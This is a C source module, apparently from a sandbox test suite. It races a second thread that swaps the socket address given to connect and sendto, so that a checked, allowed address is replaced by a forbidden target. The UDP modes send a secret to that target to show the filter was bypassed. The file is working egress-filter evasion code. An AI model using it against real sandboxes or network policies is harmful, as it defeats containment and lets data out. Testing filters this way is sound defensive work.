/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The address is right when it is checked and wrong when it is used: a second
 * thread writes the two addresses over one another, in the memory that
 * connect(2) or sendto(2) was given.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <unistd.h>

static union {
	struct sockaddr_in addr;
	uint64_t first; /* family, port and address: swapped by one store */
} swapped, right, wrong;
static atomic_bool stop;

static void *swapper(void *unused)
{
	volatile uint64_t *at = &swapped.first;

	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		for (int i = 0; i < 64; i++) {
			*at = right.first;
			*at = wrong.first;
		}
	}
	return unused;
}

/* One try; true when the target answered. */
typedef bool try_fn(const struct scene *s);

static bool try_tcp(const struct scene *s)
{
	const struct linger reset = {.l_onoff = 1};
	int fd = new_socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd pfd = {.fd = fd, .events = POLLOUT};
	bool won = false;

	setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	if ((connect(fd, (const void *)&swapped, sizeof(swapped.addr)) == 0 ||
	     errno == EINPROGRESS) &&
	    poll(&pfd, 1, 5) == 1)
		won = same_peer(fd, &s->target4);
	close(fd);
	return won;
}

static bool echoed(const struct scene *s, int fd)
{
	struct sockaddr_in from;
	socklen_t len = sizeof(from);
	char buf[64];

	while (recvfrom(fd, buf, sizeof(buf), MSG_DONTWAIT, (void *)&from,
			&len) > 0)
		if (from.sin_addr.s_addr == s->target4.sin_addr.s_addr)
			return true;
	return false;
}

static bool try_udp(const struct scene *s)
{
	int fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	struct pollfd pfd = {.fd = fd, .events = POLLIN};
	bool won = connect(fd, (const void *)&swapped, sizeof(swapped.addr)) ==
			   0 &&
		   same_peer(fd, &s->target4) &&
		   send(fd, s->secret, strlen(s->secret), 0) > 0 &&
		   poll(&pfd, 1, 5) == 1 && echoed(s, fd);

	close(fd);
	return won;
}

static bool try_sendto(const struct scene *s)
{
	static int fd = -1;

	if (fd < 0)
		fd = new_socket(AF_INET, SOCK_DGRAM, 0);
	sendto(fd, s->secret, strlen(s->secret), MSG_DONTWAIT,
	       (const void *)&swapped, sizeof(swapped.addr));
	return echoed(s, fd);
}

static enum verdict race(const struct scene *s, in_port_t right_port,
			 in_port_t wrong_port, try_fn *try)
{
	int64_t end = now_us() + 25 * 1000000;
	unsigned int i;
	pthread_t thread;
	bool won = false;

	right.addr = s->allowed4;
	right.addr.sin_port = right_port;
	wrong.addr = s->target4;
	wrong.addr.sin_port = wrong_port;
	swapped = wrong;
	if (pthread_create(&thread, NULL, swapper, NULL) != 0)
		return say(UNTRIED, "no second thread");
	for (i = 0; i < s->tries && !won && now_us() < end; i++)
		won = try(s);
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
	return say(won ? THROUGH : REFUSED, "%u tries", i);
}

static enum verdict tcp(const struct scene *s)
{
	return race(s, s->closed_port, s->closed_port, try_tcp);
}

/* Of datagrams, only questions for names get past the check. */
static enum verdict udp(const struct scene *s)
{
	return race(s, htons(53), s->target4.sin_port, try_udp);
}

static enum verdict by_sendto(const struct scene *s)
{
	return race(s, htons(53), s->target4.sin_port, try_sendto);
}

const struct attack attack_swap = {
	"swap",
	(const struct mode[]){
		{"tcp", tcp}, {"udp", udp}, {"sendto", by_sendto}, {0}},
};
